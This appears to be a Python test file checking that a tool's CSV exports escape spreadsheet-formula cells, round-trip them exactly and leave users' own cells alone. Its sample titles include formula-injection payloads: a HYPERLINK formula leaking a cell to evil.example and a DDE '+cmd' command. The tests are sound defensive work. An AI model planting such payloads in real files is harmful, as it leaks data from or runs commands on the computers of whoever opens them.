"""Issue 17, item 3: a CSV moteur writes never holds a cell a spreadsheet would run as a formula; what it
escaped reads back exactly; the user's own cells are left as they wrote them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from moteur.connectors.files import FileBoard
from moteur.connectors.files.formulas import TRIGGERS, escape_cell, unescape_cell
from moteur.core.model import Tool
from moteur.mappings.loader import load_mapping

from .conftest import Run

MAPPING = load_mapping(Tool.FILE)
TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", ".", ",", " "])))
def test_escaping_round_trips_and_never_leaves_a_formula(text: str) -> None:
    written = escape_cell(text)
    assert unescape_cell(written) == text
    if written[:1] in TRIGGERS:  # only a negative number may start so: a spreadsheet reads a number
        assert written == text and text.startswith("-") and float(text.replace(",", ".")) <= 0


def test_negative_numbers_stay_numbers() -> None:
    assert [escape_cell(n) for n in ("-3", "-2.5", "-1,5", "-1e3")] == ["-3", "-2.5", "-1,5", "-1e3"]
    assert escape_cell("-3-2") == "'-3-2" and escape_cell("-") == "'-"


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_a_migration_to_csv_escapes_formulas_and_migrates_back_to_the_same_titles(
    workdir: Path, run: Run
) -> None:
    source = {
        "name": "Cartes piégées",
        "actions": [
            {"id": f"c{n}", "title": title, "impact": 5, "effort": 3, "score": -3}
            for n, title in enumerate(TITLES)
        ],
    }
    (workdir / "cards.json").write_text(json.dumps(source), encoding="utf-8")
    assert run("migrate", "file:cards.json", "file:out.csv").code == 0
    rows = csv_cells(workdir / "out.csv")
    title_at, score_at = rows[0].index("title"), rows[0].index("score")
    assert [row[title_at] for row in rows[1:]] == ["'" + title for title in TITLES]
    assert {row[score_at] for row in rows[1:]} == {"-3"}  # a number, not a formula: left alone
    assert all(cell[:1] not in TRIGGERS or cell == "-3" for row in rows for cell in row)
    # Read as a board, and migrated onward: the very titles.
    assert [a.title for a in FileBoard(workdir / "out.csv", MAPPING).read().actions] == TITLES
    assert run("migrate", "file:out.csv", "file:back.json").code == 0
    back = json.loads((workdir / "back.json").read_text(encoding="utf-8"))["actions"]
    assert [action["title"] for action in back] == TITLES
    assert [action["score"] for action in back] == [-3, -3, -3]
    # And a re-run finds nothing to change: what it wrote reads back exactly.
    again = run("migrate", "file:cards.json", "file:out.csv", "--json")
    assert (json.loads(again.out)["created"], json.loads(again.out)["updated"]) == (0, 0)


def test_the_users_own_cells_in_a_synced_csv_are_left_as_written(workdir: Path, run: Run) -> None:
    plan = (
        "id;titre;impact;effort;notes;budget\n"
        "a1;Webinar SEO;8;3;=SUM(F2:F3);-120\n"
        "a2;'=Titre protégé;6;6;@équipe;+45\n"
        "a3;Post LinkedIn;4;2;'-pas une formule;\n"
    )
    path = workdir / "plan.csv"
    path.write_text(plan, encoding="utf-8")
    assert run("sync", "file:plan.csv", "--today=2026-12-01").code == 0
    lines = path.read_text(encoding="utf-8").splitlines()
    # Every cell that was there is still there, as written; moteur only added its three columns.
    assert [line.split(";")[:6] for line in lines] == [line.split(";") for line in plan.splitlines()]
    assert lines[0].endswith(";quadrant;sprint;ice") and all(len(line.split(";")) == 9 for line in lines)
    titles = [a.title for a in FileBoard(path, MAPPING).read().actions]
    assert titles == ["Webinar SEO", "=Titre protégé", "Post LinkedIn"]  # the protective quote is read off


def test_a_managed_cell_that_looks_like_a_formula_is_escaped_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "plan.csv"
    path.write_text("id;titre\na1;A\na2;B\n", encoding="utf-8")
    board = FileBoard(path, MAPPING)
    board.write_annotations({"a1": {"quadrant": "=2+3", "ice": "-3"}, "a2": {"sprint": "'@x"}})
    assert path.read_text(encoding="utf-8") == "id;titre;quadrant;ice;sprint\na1;A;'=2+3;-3;\na2;B;;;''@x\n"
    first, second = board.read().actions
    assert (first.annotations.quadrant, first.annotations.ice) == ("=2+3", -3.0)
    assert second.annotations.sprint == "'@x"
    before = path.read_bytes()
    board.write_annotations({"a1": {"quadrant": "=2+3"}})  # the same value: nothing to write
    assert path.read_bytes() == before
